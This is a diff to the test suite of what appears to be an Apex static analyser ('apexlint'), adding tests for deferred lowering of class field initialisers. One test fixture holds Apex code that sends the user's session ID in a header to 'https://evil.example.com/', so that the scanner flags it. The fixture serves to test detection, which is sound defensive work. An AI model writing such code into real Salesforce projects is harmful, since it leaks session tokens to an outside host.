@@ -11,21 +11,30 @@ from pathlib import Path
 import pytest
 
 from apexlint.engine import ScanOptions, scan
-from apexlint.ir import BodyRef, FileKind, MethodIR, Param, Stmt
+from apexlint.ir import BodyRef, ClassIR, FileKind, MethodIR, Param, Stmt
 from apexlint.lower import LoweringJob, lazy, lower_job
 from apexlint.lower.lazy import BodyLoader
+from apexlint.model.package import _field_initializer
 from apexlint.read.decode import ReadLimits
+from tests.fuzz.inputs import SFDX_SOURCE, write_sfdx_package
 
 REPO = Path(__file__).resolve().parents[1]
 APEX = sorted(p for p in (REPO / "fixtures").rglob("*") if p.suffix in (".cls", ".trigger"))
 
 
 def _methods(path: Path, lazy: bool) -> list[MethodIR]:
+    """The file's methods as the package model has them: with each class's field initialisers,
+    the `<fields>` method the model makes of them, or lowering made when it left them for later."""
     kind = FileKind.APEX_TRIGGER if path.suffix == ".trigger" else FileKind.APEX_CLASS
     rel = path.relative_to(REPO).as_posix()
     lowered = lower_job(LoweringJob(rel, kind, path.read_bytes(), "", lazy=lazy), ReadLimits())
-    out = [m for f in lowered.files for c in f.classes for m in c.methods]
+    out = [m for f in lowered.files for c in f.classes for m in (*c.methods, *_initialisers(c))]
     return out + [t.body for f in lowered.files for t in f.triggers]
+
+
+def _initialisers(c: ClassIR) -> list[MethodIR]:
+    made = _field_initializer(c)
+    return [made] if made is not None else []
 
 
 def _lowered(method: MethodIR, loader: BodyLoader) -> tuple[tuple[Stmt, ...], tuple[Param, ...]]:
@@ -60,6 +69,99 @@ def test_the_comparison_covers_bodies_left_for_later() -> None:
     lazy = [m for path in APEX for m in _methods(path, lazy=True)]
     left = [m for m in lazy if isinstance(m.code, BodyRef)]
     assert len(left) >= 200 and len(left) > len(lazy) // 3
+
+
+def test_the_comparison_covers_field_initialisers_left_for_later() -> None:
+    """Not vacuous for `<fields>` either: the fixtures' classes with initialisers mostly hold no
+    source in them, and their initialisers are left for later (`ir.FieldIR.deferred`)."""
+    lazy = [m for path in APEX for m in _methods(path, lazy=True) if m.name == "<fields>"]
+    left = [m for m in lazy if isinstance(m.code, BodyRef)]
+    assert len(left) >= 20 and len(left) > len(lazy) // 2
+    assert all(isinstance(m.code, BodyRef) and m.code.node_type == "fields" and m.code.parts for m in left)
+
+
+WSDL_LIKE = """public class Svc {
+    public static final String SOAP_URI = 'urn:svc';
+    public class Item {
+        public String name;
+        public String kind = 'Item', label = 'A string, with \\'quotes\\' and (parentheses)';
+        private String[] name_type_info = new String[]{'name', SOAP_URI, null, '0', '1', 'false'};
+        private String[] apex_schema_type_info = new String[]{SOAP_URI, 'true', 'false'};
+        private String[] field_order_type_info = new String[]{'name'};
+        public void touch() { name = kind; }
+        private Integer count = 3;
+    }
+    public class Port {
+        public String endpoint_x = 'https://svc.example.com/' + String.valueOf(2);
+        private String[] ns_map_type_info = new String[]{SOAP_URI, 'svc'};
+    }
+}
+"""
+
+
+def test_a_classs_initialisers_are_lowered_together_and_parsed_alone(tmp_path: Path,
+                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+    """Declarations with several declarators, a method and a field without a value between them,
+    strings holding quotes and parentheses: the statements are the eager ones, from declarations
+    parsed without the rest of the file."""
+    cls = tmp_path / "Svc.cls"
+    cls.write_text(WSDL_LIKE)
+    whole: list[int] = []
+    real = lazy.parse_apex
+    monkeypatch.setattr(lazy, "parse_apex", lambda data: whole.append(len(data)) or real(data))
+    eager = {c.name: c for c in lower_job(LoweringJob("Svc.cls", FileKind.APEX_CLASS, cls.read_bytes(), "",
+                                                      lazy=False), ReadLimits()).files[0].classes}
+    left = {c.name: c for c in lower_job(LoweringJob("Svc.cls", FileKind.APEX_CLASS, cls.read_bytes(), "",
+                                                     lazy=True), ReadLimits()).files[0].classes}
+    loader = BodyLoader({"Svc.cls": (cls, "")}, ReadLimits())
+    for name in ("svc", "svc.item", "svc.port"):
+        made = _field_initializer(eager[name])
+        deferred = left[name].methods[-1]
+        assert made is not None and deferred.name == "<fields>" and isinstance(deferred.code, BodyRef)
+        assert _field_initializer(left[name]) is None
+        assert loader(deferred.code) == made.code
+        assert (deferred.span, deferred.body_span, deferred.is_test) == (made.span, made.body_span, made.is_test)
+        assert set(deferred.refs.split()) >= set(made.refs.split())
+        assert "quotes" not in deferred.refs.split(), "identifiers are taken outside string literals"
+    assert [f.calls for f in left["svc.port"].fields] == [True, False]
+    assert not any(f.calls for f in left["svc.item"].fields)
+    assert loader.notes == [] and whole == []
+
+
+def test_the_writers_of_a_field_are_found_without_lowering_every_classs_initialisers(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A field read where a session flows asks who writes it: every class initialising a field of
+    that name is a candidate (WSDL2Apex: hundreds), and whether its initialisers write it is
+    answered from the declarations. Only the initialisers the data flow runs are lowered (read
+    from their statements, all 31 were; of apex-mdapi's, 1,021 for about 60 analysed)."""
+    items = "".join(f"""    public class Item{i} {{
+        public String kind = 'Item{i}';
+        private String[] kind_type_info = new String[]{{'kind', SOAP_URI, null, '0', '1', 'false'}};
+        private String[] apex_schema_type_info = new String[]{{SOAP_URI, 'true', 'false'}};
+    }}
+""" for i in range(30))
+    caller = """public class Caller {
+    public static void run() {
+        Svc.Item0 it = new Svc.Item0();
+        HttpRequest req = new HttpRequest();
+        req.setEndpoint('https://evil.example.com/' + it.kind);
+        req.setHeader('X-Session', UserInfo.getSessionId());
+        new Http().send(req);
+    }
+}
+"""
+    svc = f"public class Svc {{\n    public static final String SOAP_URI = 'urn:svc';\n{items}}}\n"
+    src = write_sfdx_package(tmp_path / "pkg", {f"{SFDX_SOURCE}/classes/Svc.cls": svc.encode(),
+                                                f"{SFDX_SOURCE}/classes/Caller.cls": caller.encode()})
+    lowered: list[str] = []
+    real = BodyLoader._lower
+    monkeypatch.setattr(BodyLoader, "_lower", lambda self, ref: lowered.append(ref.owner) or real(self, ref))
+    result = scan(ScanOptions(paths=(src,), root=src, jobs=1))
+    assert [f.rule_id for f in result.findings] == ["SID002"]
+    assert "to https://evil.example.com/Item0" in result.findings[0].message
+    # Item0's, which the `new` runs, and Svc's, which writes the SOAP_URI they read; not the others
+    fields = sorted(owner for owner in lowered if owner.endswith("<fields>"))
+    assert fields == ["svc.<fields>", "svc.item0.<fields>"], fields
 
 
 def test_a_file_changed_before_its_body_is_read_is_a_notification(tmp_path: Path, parsed: str) -> None:
